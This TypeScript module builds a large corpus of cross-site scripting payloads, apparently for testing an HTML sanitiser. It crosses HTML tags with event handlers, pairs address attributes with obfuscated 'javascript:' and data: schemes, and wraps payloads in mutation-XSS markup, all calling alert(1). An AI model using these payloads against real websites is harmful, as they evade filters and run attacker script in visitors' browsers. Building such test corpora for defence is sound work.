// Building blocks of script injection; each combination is a payload that calls `alert`.
const CALL = 'alert(1)';

const tags = `
  a abbr address area article audio b base bdi blockquote body br button canvas caption custom-element
  details dialog div em embed fieldset font form frame frameset h3 head hr html i iframe image img
  input isindex keygen label li link marquee math meta mglyph noscript object ol option p picture
  plaintext portal script select slot source strong style svg table tbody td template textarea th
  thead title tr track u ul video xmp xss
`
  .trim()
  .split(/\s+/u);

const handlers = `
  onload onerror onfocus onclick onmouseover onpointerenter ontoggle onanimationstart onbegin onscroll
  onwheel oncopy oninput onpageshow onbeforetoggle oncontentvisibilityautostatechange
`
  .trim()
  .split(/\s+/u);

/** Separators between a tag name and its attributes that browsers accept. */
const gaps = [' ', '/', '\n', '\t', '\f', ' x="y"', " x='>' "] as const;

/** Attributes that fire an element's event handlers without the visitor's help. */
const LURES = 'tabindex=1 autofocus src=x data=x open controls autoplay style="animation:a 1s" id=x contenteditable';

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  'java\rscript:',
  ' javascript:',
  '\u0001javascript:',
  '\u001fjavascript:',
  '\u00a0javascript:',
  '\u2028javascript:',
  '\ufeffjavascript:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript&#x3a;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#0000106avascript:',
  'java&Tab;script:',
  'java&NewLine;script:',
  'java&#0;script:',
  'view-source:javascript:',
  'jar:javascript:',
  'feed:javascript:',
  'vbscript:',
  'livescript:',
  'mocha:',
  'data:text/html,<script>parent.alert(1)</script>//',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>#',
  'blob:',
  'filesystem:',
] as const;

const addressed = [
  ['a', 'href'],
  ['a', 'xlink:href'],
  ['a', 'ping'],
  ['area', 'href'],
  ['base', 'href'],
  ['body', 'background'],
  ['button', 'formaction'],
  ['embed', 'src'],
  ['form', 'action'],
  ['frame', 'src'],
  ['iframe', 'src'],
  ['img', 'src'],
  ['img', 'lowsrc'],
  ['input', 'src'],
  ['link', 'href'],
  ['object', 'data'],
  ['script', 'src'],
  ['svg><a', 'xlink:href'],
  ['svg><use', 'href'],
  ['svg><animate attributeName=href values', 'to'],
  ['math', 'href'],
  ['math><mtext', 'xlink:href'],
  ['table', 'background'],
  ['video', 'poster'],
] as const;

/** Wrappers that parse differently the second time (mutation XSS), so that text becomes markup. */
const shells = [
  (html: string) => html,
  (html: string) => `<svg>${html}`,
  (html: string) => `<math><mtext><table><mglyph><style><!--</style>${html}`,
  (html: string) => `<noscript><p title="</noscript>${html}">`,
  (html: string) => `<svg></p><style><a id="</style>${html}">`,
  (html: string) => `<form><math><mtext></form><form><mglyph><style></math>${html}`,
  (html: string) => `<math><annotation-xml encoding="text/html"><style>${html}</style>`,
  (html: string) => `<template><s><template><s>${html}</s></template>`,
  (html: string) => `<select><template><style><!--</style><a rel="--></style></template></select>${html}">`,
  (html: string) => `<title><a href="</title>${html}">`,
  (html: string) => `<textarea><a href="</textarea>${html}">`,
  (html: string) => `<xmp><p title="</xmp>${html}">`,
  (html: string) => `<iframe srcdoc='${html.replaceAll("'", '&#39;')}'></iframe>`,
  (html: string) => `<!--><!-->${html}-->`,
  (html: string) => `<![CDATA[><!]]>${html}`,
  (html: string) => `<?xml version="1.0"?>${html}`,
  (html: string) => `${'<div>'.repeat(600)}${html}`,
  (html: string) => `${'<table>'.repeat(60)}${html}`,
  (html: string) => `&lt;p&gt;${html}&lt;/p&gt;`,
  (html: string) => `</p></div></body></html>${html}`,
] as const;

const runners = [
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<script>${CALL}</script>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
] as const;

/**
 * Several thousand HTML payloads that run a script unless sanitised: every element with every handler, every address
 * attribute with every disguised scheme, and markup that parses differently the second time.
 */
export const hostileHtml: readonly string[] = [
  ...tags.flatMap((tag, at) =>
    handlers.map((handler, nth) => {
      const gap = gaps[(at + nth) % gaps.length] ?? ' ';
      return `<${tag}${gap}${handler}=${CALL} ${LURES}>x</${tag}>`;
    }),
  ),
  ...addressed.flatMap(([tag, attribute]) =>
    schemes.map((scheme) => `<${tag} ${attribute}='${scheme}${CALL}' autofocus>x</a>`),
  ),
  ...shells.flatMap((shell) => runners.map((runner) => shell(runner))),
];
